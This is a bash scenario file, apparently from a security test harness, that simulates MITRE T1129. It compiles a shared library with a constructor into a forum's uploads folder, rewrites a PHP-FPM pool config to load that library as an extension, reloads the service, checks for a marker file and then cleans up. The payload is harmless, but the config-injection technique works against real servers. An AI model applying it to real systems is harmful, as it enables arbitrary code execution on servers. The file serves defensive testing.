# SPDX-License-Identifier: Apache-2.0 OR MIT
# shellcheck shell=bash disable=SC2034,SC2154
technique=T1129
about="the pool's configuration loads an extension from the upload folder, at a reload"
before() {
	echo '#include <fcntl.h>
__attribute__((constructor)) static void run(void) { open("/var/tmp/fidelity/marker/was-here", O_CREAT | O_WRONLY, 0644); }' >"$state/m.c"
	gcc -shared -fPIC -o $forum/uploads/m.so "$state/m.c"
}
attack() {
	sed 's,;more,php_admin_value[extension] = /srv/forum/uploads/m.so,' "$here/fpm.conf" >$forum/fpm.conf
	tell reload
	perhaps effect
}
effect() { [ -e "$marker" ]; }
after() {
	rm -f $forum/uploads/m.so
	cp "$here/fpm.conf" $forum/fpm.conf
}
